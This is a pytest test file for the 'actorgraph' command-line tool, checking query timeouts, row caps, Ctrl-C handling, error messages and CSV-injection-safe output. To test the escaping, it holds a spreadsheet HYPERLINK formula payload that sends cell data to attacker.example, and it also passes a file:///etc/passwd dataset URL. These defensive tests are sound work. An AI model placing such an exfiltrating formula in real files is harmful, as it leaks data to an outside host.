"""``actorgraph query`` and ``claims`` as a user runs them (issue 12): bounded by default,
stopped by Ctrl-C, clear about what they cut, and safe to open in a spreadsheet or print on
any terminal. Each case runs the command in a process of its own."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

CARTESIAN = "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }"
CLAIMS = "SELECT ?c WHERE { ?c a ag:Claim } ORDER BY ?c"
PAYLOAD = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'


def actorgraph(*args, env=None, timeout=120) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "actorgraph", *args], capture_output=True,
                          text=True, timeout=timeout, env=env)


def test_help_shows_the_default_limits():
    shown = " ".join(actorgraph("query", "--help").stdout.split())
    assert "--timeout SECONDS" in shown and "[default: 60.0" in shown
    assert "--max-rows N" in shown and "[default: 10000" in shown


@pytest.mark.parametrize("store", ["memory", "oxigraph"])
def test_a_query_past_its_time_limit_is_stopped(store):
    start = time.monotonic()
    run = actorgraph("query", "--store", store, "--timeout", "1", "-e", CARTESIAN)
    assert run.returncode == 1
    assert "time limit (1 s)" in run.stderr and "Traceback" not in run.stderr
    assert run.stdout == ""
    assert time.monotonic() - start < 30


@pytest.mark.parametrize("fmt", ["table", "csv", "json"])
def test_a_row_cap_is_said_on_stderr_and_in_json(fmt):
    run = actorgraph("query", "--max-rows", "5", "--format", fmt, "-e", CLAIMS)
    assert run.returncode == 0
    assert "only the first 5 rows are shown" in run.stderr
    if fmt == "json":
        answer = json.loads(run.stdout)
        assert answer["truncated"] is True and len(answer["rows"]) == 5
        assert answer["vars"] == ["c"]
    elif fmt == "csv":
        assert len(run.stdout.splitlines()) == 1 + 5


def test_a_complete_answer_says_nothing_and_zero_lifts_the_cap():
    run = actorgraph("query", "--max-rows", "0", "--timeout", "0", "--format", "json",
                     "-e", CLAIMS)
    assert run.returncode == 0 and run.stderr == ""
    answer = json.loads(run.stdout)
    assert answer["truncated"] is False and len(answer["rows"]) == 70


def test_a_graph_answer_is_capped_too():
    run = actorgraph("query", "--max-rows", "3", "--format", "csv",
                     "-e", "CONSTRUCT WHERE { ?c a ag:Claim }")
    assert run.returncode == 0
    assert len(run.stdout.split()) // 4 == 3  # N-Triples: four tokens a line
    assert "only the first 3 triples are shown" in run.stderr


def _descendants(pid: int) -> set[int]:
    found, todo = set(), [pid]
    while todo:
        for task in Path(f"/proc/{todo.pop()}/task").glob("*/children"):
            for child in map(int, task.read_text().split()):
                found.add(child)
                todo.append(child)
    return found


@pytest.mark.parametrize("store", ["memory", "oxigraph"])
def test_ctrl_c_during_a_query_exits_130_at_once(store):
    """Oxigraph reads its solutions holding the GIL, so Ctrl-C never reached Python; now
    the query runs in a process of its own, and the command's own waits for it."""
    proc = subprocess.Popen([sys.executable, "-m", "actorgraph", "query", "--store", store,
                             "-e", CARTESIAN], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True)
    deadline = time.monotonic() + 60
    while not _descendants(proc.pid) and time.monotonic() < deadline:
        time.sleep(0.05)  # until the query runs
    query = _descendants(proc.pid)
    assert query, "the query never started"
    time.sleep(0.5)
    start = time.monotonic()
    proc.send_signal(signal.SIGINT)
    _, err = proc.communicate(timeout=30)
    assert time.monotonic() - start < 5
    assert proc.returncode == 130
    assert "interrupted" in err and "Traceback" not in err
    for pid in query:  # nothing left running
        assert not Path(f"/proc/{pid}").exists() or "Z" in _state(pid)


def _state(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except FileNotFoundError:
        return "gone"


# -- messages -----------------------------------------------------------------------------------

@pytest.mark.parametrize("store", ["memory", "oxigraph"])
def test_graph_on_a_store_without_named_graphs_is_a_clear_answer(store):
    run = actorgraph("query", "--store", store, "--format", "json",
                     "-e", "SELECT ?s WHERE { GRAPH ?g { ?s ?p ?o } }")
    assert "Traceback" not in run.stderr
    if store == "memory":
        assert run.returncode == 1 and "has no named graphs" in run.stderr
    else:
        assert run.returncode == 0 and json.loads(run.stdout)["rows"] == []


@pytest.mark.parametrize("store", ["memory", "oxigraph"])
def test_an_undeclared_prefix_is_named(store):
    run = actorgraph("query", "--store", store, "-e", "SELECT ?t WHERE { ?s dc:title ?t }")
    assert run.returncode == 1
    assert "undeclared prefix 'dc:'" in run.stderr and "Traceback" not in run.stderr


@pytest.mark.parametrize("url", ["http://example.org/data.ttl", "file:///etc/passwd"])
def test_a_url_as_dataset_is_shown_as_written(url):
    run = actorgraph("claims", "--dataset", url)
    assert run.returncode == 1
    assert f"{url}: a URL, not a file or folder" in run.stderr
    assert url.replace("//", "/") not in run.stderr.replace(url, "")


# -- what reaches a terminal or a spreadsheet -------------------------------------------------------

@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A small dataset whose texts start like spreadsheet formulas, in Arabic and with
    typographic quotes."""
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "actors.csv").write_text(
        "id,label,kind\nA,حماس,armed_group\nB,\"=1+2\",state\n", encoding="utf-8")
    (folder / "sources.csv").write_text(
        "id,title,publisher,published,url\ns1,Report,Agency,2019-12-07,https://example.org/r\n",
        encoding="utf-8")
    quote = PAYLOAD.replace('"', '""')
    (folder / "claims.csv").write_text(
        "id,subject,relation,object,certainty,sources,quote,attributed_to\n"
        f'c1,A,fights,B,probable,s1,"{quote}",-مصادر ’said’\n', encoding="utf-8")
    return folder


def test_claims_csv_does_not_run_formulas(hostile):
    run = actorgraph("claims", "--dataset", str(hostile), "--format", "csv")
    assert run.returncode == 0
    row = next(r for r in csv.DictReader(io.StringIO(run.stdout)))
    assert row["quote"] == "'" + PAYLOAD
    assert row["attributed_to"] == "'-مصادر ’said’"
    assert row["subject"] == "A"
    json_row = json.loads(actorgraph("claims", "--dataset", str(hostile),
                                     "--format", "json").stdout)[0]
    assert json_row["quote"] == PAYLOAD  # stored and shown verbatim elsewhere


def test_query_csv_does_not_run_formulas_and_keeps_numbers(hostile):
    run = actorgraph("query", "--dataset", str(hostile), "--format", "csv", "-e",
                     "SELECT ?l ?n ?m WHERE { ?a rdfs:label ?l } "
                     "VALUES (?n ?m) { (-1 \"+2.5e3\") }")
    assert run.returncode == 0
    rows = list(csv.DictReader(io.StringIO(run.stdout)))
    assert {r["l"] for r in rows} >= {"'=1+2", "حماس"}
    assert {(r["n"], r["m"]) for r in rows} == {("-1", "+2.5e3")}


@pytest.mark.parametrize("encoding", ["ascii", "latin-1", "cp1252"])
@pytest.mark.parametrize("fmt", ["table", "csv", "json"])
def test_claims_print_on_a_terminal_that_is_not_utf8(hostile, encoding, fmt):
    env = {**os.environ, "LC_ALL": "C", "PYTHONIOENCODING": encoding}
    env.pop("PYTHONUTF8", None)
    run = subprocess.run([sys.executable, "-m", "actorgraph", "claims", "--dataset",
                          str(hostile), "--format", fmt], capture_output=True, env=env,
                         timeout=120)
    assert run.returncode == 0, run.stderr.decode("utf-8", "replace")
    printed = run.stdout.decode("utf-8" if encoding == "ascii" else encoding)
    # what the encoding cannot show is escaped (click writes UTF-8 to an ASCII stream)
    assert "-مصادر ’said’" in printed or "-\\u0645\\u0635" in printed
